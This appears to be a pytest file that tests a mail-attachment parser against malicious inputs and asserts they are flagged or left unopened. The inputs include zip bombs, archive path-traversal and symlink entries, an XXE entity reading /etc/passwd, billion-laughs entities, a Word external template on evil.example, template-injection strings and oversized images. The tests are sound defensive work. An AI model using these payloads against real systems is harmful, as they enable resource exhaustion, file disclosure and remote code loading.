"""Catalogue C: archives, Office files, images and PDFs made to hurt. Kept; opened only as far as limits go."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from cases.mail import Attachment
from parsers.limits import Limits
from tests.parsers.office import changed, docx, part, xlsx
from tests.parsers.outlook import binary, tnef, unicode
from tests.parsers.raw import attached, file, mixed, read, text

FORM = docx([["批号", "2602A"]])


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def sent(name: str, content: bytes) -> Attachment:
    return attached(mixed(text(), file(f'filename="{name}"'.encode(), content)))


def test_c1_a_zip_bomb_is_listed_and_never_unpacked() -> None:
    bomb = zipped(("zeros.bin", bytes(20 * 2**20)))
    found = sent("a.zip", zipped(("inner.zip", bomb), ("more.bin", bytes(60 * 2**20))))
    assert (found.members, found.flags) == (("inner.zip", "more.bin"), ("unpacks-too-large",))


def test_c2_a_zip_whose_sizes_lie_is_listed_by_what_it_says() -> None:
    lying = zipped(("a.txt", b"x" * 1000)).replace(struct.pack("<I", 1000), struct.pack("<I", 10))
    assert sent("a.zip", lying).members == ("a.txt",)


def test_c2_what_a_word_file_unpacks_to_is_counted_not_believed() -> None:
    big = part(FORM, "word/document.xml") + b" " * 2_000_000
    lying = changed(FORM, {"word/document.xml": big}).replace(struct.pack("<I", len(big)), struct.pack("<I", 100))
    assert "damaged" in sent("a.docx", lying).flags


@pytest.mark.parametrize("count", [201, 2001])
def test_c3_too_many_entries_are_not_listed_all(count: int) -> None:
    found = sent("a.zip", zipped(*[(f"{i}.txt", b"") for i in range(count)]))
    assert (len(found.members) <= 200, found.flags) == (True, ("too-many-entries",))


def test_c3_names_in_an_archive_are_only_shown() -> None:
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
        archive.writestr("../../etc/cron.d/x", "x")
        archive.writestr("/abs", "x")
    found = sent("a.zip", out.getvalue())
    assert (found.members, found.content) == (("link", "../../etc/cron.d/x", "/abs"), out.getvalue())


def test_c4_gbk_names_without_the_utf8_mark_are_readable() -> None:
    name = "投诉.txt".encode("gbk")
    plain = zipped(("x" * len(name), b"")).replace(b"x" * len(name), name)
    assert sent("a.zip", plain).members == ("投诉.txt",)


def encrypted_zip() -> bytes:
    plain = bytearray(zipped(("a.txt", b"secret")))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        plain[plain.index(mark) + at] |= 1
    return bytes(plain)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENCRYPTED = {
    "a.zip": encrypted_zip(),
    "a.docx": OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "a.xlsx": OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "a.pdf": b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Encrypt 2 0 R/Root 1 0 R>>\n%%EOF",
}


@pytest.mark.parametrize("name", ENCRYPTED)
def test_c5_a_file_with_a_password_is_flagged(name: str) -> None:
    assert "encrypted" in sent(name, ENCRYPTED[name]).flags


@pytest.mark.parametrize(
    ("name", "content"), [("a.rar", b"Rar!\x1a\x07\x01\x00"), ("a.7z", b"7z\xbc\xaf\x27\x1c"), ("a.tar", b"x" * 512)]
)
def test_c6_other_archives_are_only_kept(name: str, content: bytes) -> None:
    found = sent(name, content)
    assert (found.members, found.flags, found.content) == ((), (), content)


WINMAIL = tnef([unicode(0x0037, "x")], [[unicode(0x3707, "a.txt"), binary(0x3701, b"x")]])


@pytest.mark.parametrize("data", [WINMAIL[:50], WINMAIL[:6], WINMAIL[:4] + b"\xff" * 500, b"garbage", b""])
def test_c7_a_winmail_dat_that_cannot_be_read_is_kept(data: bytes) -> None:
    found = read(mixed(text(), file(b"filename=winmail.dat", data, b"application/ms-tnef"))).attachments
    assert found[0].content == data


DTD = '<?xml version="1.0"?><!DOCTYPE x [{}]>'
XXE = DTD.format('<!ENTITY e SYSTEM "file:///etc/passwd">')
LAUGHS = DTD.format("<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 10)))


@pytest.mark.parametrize(("row", "dtd"), [("C8", XXE), ("C9", LAUGHS), ("C8 UTF-16", XXE)])
@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_c8_c9_entities_are_never_expanded(row: str, dtd: str, kind: str) -> None:
    whole, name = (FORM, "word/document.xml") if kind == "docx" else (xlsx({"A1": "批号"}), "xl/worksheets/sheet1.xml")
    body = part(whole, name).decode()
    body = dtd + body[body.index("?>") + 2 :] if "?>" in body else dtd + body
    encoded = body.replace("2602A", "&e;").encode("utf-16" if row.endswith("16") else "utf-8")
    found = read(mixed(text(), file(f"filename=a.{kind}".encode(), changed(whole, {name: encoded}))))
    assert found.fields == {}
    assert found.attachments[0].flags == ("doctype",)


def test_c10_a_word_file_that_unpacks_to_150_mb_is_not_unpacked() -> None:
    bomb = changed(FORM, {"word/document.xml": part(FORM, "word/document.xml") + b" " * (150 * 2**20)})
    assert len(bomb) < 2**20
    assert sent("a.docx", bomb).flags == ("too-large",)


def test_c10_a_word_file_9000_levels_deep_is_damaged() -> None:
    body = part(FORM, "word/document.xml").replace(b"<w:body>", b"<w:body>" + b"<w:sdt>" * 9000)
    assert sent("a.docx", changed(FORM, {"word/document.xml": body})).flags == ("damaged",)


def test_c11_nothing_that_a_word_file_points_to_is_fetched() -> None:
    relations = part(FORM, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    )
    found = read(mixed(text(), file(b"filename=a.docx", changed(FORM, {"word/_rels/document.xml.rels": relations}))))
    assert found.fields["batch_no"].value == ("2602A",)


@pytest.mark.parametrize("name", ["a.docm", "a.docx"])
def test_c12_a_file_with_macros_may_state_facts_and_is_quarantined(name: str) -> None:
    data = changed(FORM, {"word/vbaProject.bin": b"x"})
    found = read(mixed(text(), file(f"filename={name}".encode(), data)))
    assert found.fields["batch_no"].value == ("2602A",)
    assert "macros" in found.attachments[0].flags
    assert found.attachments[0].quarantined


@pytest.mark.parametrize("value", ["{{ 7*7 }}", "{% for x in y %}", "{{ ''.__class__.__mro__ }}"])
def test_c13_braces_in_a_form_are_values(value: str) -> None:
    found = read(mixed(text(), file(b"filename=a.docx", docx([["不良现象", value]]))))
    assert found.fields["failure_mode"].value == value


def test_c14_a_cell_in_the_last_corner_and_a_sheet_of_many_rows_cost_little() -> None:
    corner = xlsx({"A1": "批号", "B1": "2602A", "XFD1048576": "x"})
    assert read(mixed(text(), file(b"filename=a.xlsx", corner))).fields["batch_no"].value == ("2602A",)
    rows = [["批号", "2602A"], *[["x"]] * 20_000]
    assert read(mixed(text(), file(b"filename=a.xlsx", xlsx(rows=rows)))).fields["batch_no"].value == ("2602A",)


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR"
TAG = struct.Struct("<HHII").pack
LARGE = ("too-many-pixels",)
PICTURES = {
    "144 megapixels.png": (PNG + struct.pack(">II", 12_000, 12_000) + bytes(100), LARGE),
    "small.png": (PNG + struct.pack(">II", 1_200, 1_200) + bytes(100), ()),
    "400 megapixels.gif": (b"GIF89a" + struct.pack("<HH", 20_000, 20_000) + bytes(20), LARGE),
    "upside down.bmp": (b"BM" + bytes(16) + struct.pack("<ii", 10_000, -10_000) + bytes(20), LARGE),
    "400 megapixels.jpg": (
        b"\xff\xd8\xff\xe0\0\x10" + bytes(14) + b"\xff\xc2\0\x11\x08" + struct.pack(">HH", 20_000, 20_000) + bytes(20),
        LARGE,
    ),
    "broken.jpg": (b"\xff\xd8\xff\xe0" + bytes(50), ()),
    "large.tif": (b"II*\0\x08\0\0\0\x02\0" + TAG(256, 4, 1, 9_000) + TAG(257, 4, 1, 9_000) + bytes(4), LARGE),
    "large.webp": (b"RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\xff\0" * 2, LARGE),
    "cut off.png": (PNG, ()),
}


@pytest.mark.parametrize("name", PICTURES)
def test_c15_an_image_is_kept_and_never_decoded_and_one_that_would_be_too_large_is_flagged(name: str) -> None:
    content, flags = PICTURES[name]
    assert (sent(name, content).content, sent(name, content).flags) == (content, flags)


@pytest.mark.parametrize("body", [b"/JBIG2Decode", b"<</Type/CMap/UseCMap /x>>" * 1000])
def test_c16_a_pdf_is_kept_and_never_opened(body: bytes) -> None:
    found = sent("a.pdf", b"%PDF-1.7\n" + body)
    assert (found.detected_type, found.flags) == ("application/pdf", ())


BROKEN = {
    "0 bytes": (b"", "empty"),
    "cut off": (FORM[: len(FORM) // 2], "damaged"),
    "another zip": (zipped(("a.txt", b"x")), "type-mismatch"),
    "a zip that claims to be Word": (zipped(("word/x.txt", b"x")), "damaged"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_c17_a_form_that_is_none_is_kept_and_flagged_and_the_mail_is_read(name: str) -> None:
    content, flag = BROKEN[name]
    found = read(mixed(text("不良数量：37".encode()), file(b"filename=form.docx", content)))
    assert found.fields["qty_defect"].value == "37"
    assert flag in found.attachments[0].flags


def test_limits_of_archives_are_those_of_the_desk() -> None:
    raw = mixed(text(), file(b"filename=a.zip", zipped(("a", b""), ("b", b""))))
    (found,) = read(raw, Limits(archive_entries=1)).attachments
    assert (found.members, found.flags) == (("a",), ("too-many-entries",))
